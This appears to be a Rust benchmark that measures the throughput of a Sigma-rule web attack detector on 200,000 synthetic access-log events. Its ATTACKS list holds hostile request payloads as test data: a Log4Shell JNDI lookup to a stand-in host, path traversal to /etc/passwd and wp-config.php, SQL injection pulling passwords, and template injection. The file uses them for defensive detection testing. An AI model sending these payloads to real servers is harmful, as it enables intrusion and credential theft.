//! Throughput of the Sigma detector with all shared web rules: 200k realistic events (about 3%
//! attacks), median of 3 runs, events per second on one core. Excludes decoding (events are
//! built up front); includes `EventCtx::new` (path templating), the literal prefilter and the
//! rsigma evaluation of the rules it lets through. Also prints the prefilter's figures (rules
//! evaluated on every event, needles, automaton size) and the share of events rsigma evaluated.
//!
//! `cargo bench -p rampart-sigma --bench sigma` (set `RAMPART_SIGMA_WEB_DIR` to override the
//! rule directory).

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Instant;

use rampart_detect::{Detector, EventCtx};
use rampart_model::{ApiEvent, Timestamp};
use rampart_sigma::{load_dir, SigmaConfig, SigmaDetector};

const N: usize = 200_000;

const BENIGN: &[&str] = &[
    "/api/v1/users/{n}",
    "/api/v1/orders?page={n}&sort=created_at",
    "/api/v1/products/{n}/reviews?limit=20",
    "/static/js/app.{n}.js",
    "/images/banner-{n}.png",
    "/api/v2/search?q=blue+shoes&size={n}",
    "/health",
    "/api/v1/cart/items/{n}",
    "/login",
    "/api/v1/users/{n}/settings?fields=name,email",
];
const ATTACKS: &[&str] = &[
    "/search?q=${jndi:ldap://evil.example/{n}}",
    "/.git/config",
    "/static/../../../../etc/passwd",
    "/items?id=1+UNION+SELECT+username,password+FROM+users--",
    "/render?name={{7*7}}",
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
];
const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
];

struct Line {
    ip: String,
    method: &'static str,
    target: String,
    status: u16,
    ua: &'static str,
    raw: String,
}

fn lines() -> Vec<Line> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    (0..N)
        .map(|i| {
            let r = next();
            let attack = r % 100 < 3;
            let tpl = if attack {
                ATTACKS[(r >> 8) as usize % ATTACKS.len()]
            } else {
                BENIGN[(r >> 8) as usize % BENIGN.len()]
            };
            let target = tpl.replace("{n}", &((r >> 20) % 100_000).to_string());
            let ip = format!("10.{}.{}.{}", (r >> 32) % 4, (r >> 40) % 256, (r >> 48) % 256);
            let method = if i % 7 == 0 { "POST" } else { "GET" };
            let status = if attack { 404 } else { 200 };
            let ua = UAS[(r >> 56) as usize % UAS.len()];
            let raw = format!(
                "{ip} - - [10/Oct/2024:13:55:36 +0000] \"{method} {target} HTTP/1.1\" {status} 512 \"-\" \"{ua}\""
            );
            Line {
                ip,
                method,
                target,
                status,
                ua,
                raw,
            }
        })
        .collect()
}

fn event(l: &Line, i: usize) -> ApiEvent<'_> {
    let (path, query) = l.target.split_once('?').unwrap_or((l.target.as_str(), ""));
    ApiEvent {
        ts: Timestamp::from_millis(1_728_568_536_000 + i as i64),
        client_ip: l.ip.parse().ok(),
        method: l.method.into(),
        host: "api.example.com".into(),
        path: path.into(),
        query: query.into(),
        protocol: "HTTP/1.1".into(),
        status: l.status,
        user_agent: l.ua.into(),
        raw: l.raw.as_str().into(),
        source_format: "combined".into(),
        ..Default::default()
    }
}

fn main() {
    let dir = std::env::var_os("RAMPART_SIGMA_WEB_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora/sigma-web")
        });
    let t = Instant::now();
    let (rules, report) = match load_dir(&dir) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("cannot load rules: {e}");
            std::process::exit(1);
        }
    };
    println!(
        "loaded {} rules ({} refused) in {:?}",
        report.loaded.len(),
        report.refused.len(),
        t.elapsed()
    );
    let rules = Arc::new(rules);
    let lines = lines();
    let events: Vec<ApiEvent<'_>> = lines.iter().enumerate().map(|(i, l)| event(l, i)).collect();

    // Cost of the shared per-event context alone (templating), for attribution.
    let t = Instant::now();
    let mut sink = 0usize;
    for ev in &events {
        sink += EventCtx::new(ev).template.len();
    }
    let ctx_secs = t.elapsed().as_secs_f64();

    let pf = rules.prefilter_stats();
    println!(
        "prefilter: {} detection rules, {} always evaluated, {} needles, automaton {} KiB",
        pf.rules,
        pf.always_evaluate,
        pf.needles,
        pf.automaton_bytes / 1024
    );
    for t in rules.always_evaluated() {
        println!("  always evaluated: {t}");
    }

    let mut rates = Vec::new();
    let mut alerts = 0;
    let mut stats = Default::default();
    for _ in 0..3 {
        let mut det = SigmaDetector::new(Arc::clone(&rules), SigmaConfig::default());
        let mut out = Vec::new();
        let t = Instant::now();
        for ev in &events {
            let cx = EventCtx::new(ev);
            det.observe(&cx, &mut out);
        }
        let secs = t.elapsed().as_secs_f64();
        alerts = out.len();
        stats = det.stats();
        rates.push(N as f64 / secs);
    }
    rates.sort_by(|a, b| a.total_cmp(b));
    println!(
        "sigma: {N} events, {} rules, {alerts} alerts (after cooldown); median {:.0} events/s (runs: {:.0?})",
        rules.len(),
        rates[1],
        rates
    );
    let stats: rampart_sigma::SigmaStats = stats;
    println!(
        "rsigma evaluated {:.2}% of events, {:.3} rules per event on average",
        100.0 * stats.events_evaluated as f64 / stats.events.max(1) as f64,
        stats.rule_evaluations as f64 / stats.events.max(1) as f64
    );
    println!(
        "of which EventCtx::new alone: {:.0} events/s ({sink} template bytes)",
        N as f64 / ctx_secs
    );
}
